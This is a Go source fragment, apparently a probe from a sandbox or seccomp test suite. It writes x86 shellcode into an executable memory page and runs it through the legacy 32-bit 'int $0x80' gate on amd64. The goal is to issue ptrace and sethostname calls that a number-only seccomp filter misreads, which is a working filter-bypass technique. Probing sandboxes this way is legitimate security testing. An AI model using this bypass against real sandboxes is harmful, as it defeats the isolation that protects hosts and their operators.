package main

import (
	"runtime"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Makes its calls by the i386 gate, where a filter that looks at numbers alone
// takes ptrace for something harmless.
func attack(where string) {
	if where == "host" || where == "container" {
		again("gate", 0)
		return
	}
	if runtime.GOARCH != "amd64" {
		say("signal: bad system call", "there is no such gate here")
		return
	}
	page, err := unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE|unix.PROT_EXEC, unix.MAP_PRIVATE|unix.MAP_ANON)
	if err != nil {
		return
	}
	for _, nr := range []byte{74, 26, 20} { // sethostname, ptrace, getpid
		copy(page, []byte{0x31, 0xdb, 0x31, 0xc9, 0xb8, nr, 0, 0, 0, 0xcd, 0x80, 0xc3}) // ebx = ecx = 0; eax = nr; int $0x80; ret
		code := &[1]unsafe.Pointer{unsafe.Pointer(&page[0])}                            // what a function value points to
		gate := *(*func())(unsafe.Pointer(&code))
		gate()
		say("ok", "call by the gate")
	}
}
